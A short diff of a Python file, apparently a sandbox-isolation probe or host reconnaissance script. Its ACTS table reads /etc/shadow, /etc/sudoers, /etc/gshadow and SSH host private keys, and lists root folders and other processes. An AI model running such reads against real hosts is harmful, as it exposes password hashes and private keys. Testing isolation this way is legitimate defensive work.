@@ -194,7 +194,7 @@ def _reopen_channel(_):
 
 
 ACTS = {
-    "passwords of the host": _read("/etc/shadow", "/etc/sudoers", "/root/.ssh/id_rsa", "/etc/ssh/ssh_host_rsa_key"),
+    "passwords of the host": _read("/etc/shadow", "/etc/sudoers", "/etc/ssh/ssh_host_rsa_key", "/etc/gshadow"),
     "settings of the host": _read("/etc/hostname", "/etc/hosts", "/etc/resolv.conf", "/etc/machine-id", "/etc/fstab"),
     "folders of the host": _list("/root", "/home", "/var", "/run", "/boot", "/mnt", "/opt", "/srv", "/media"),
     "other processes in /proc": _others,
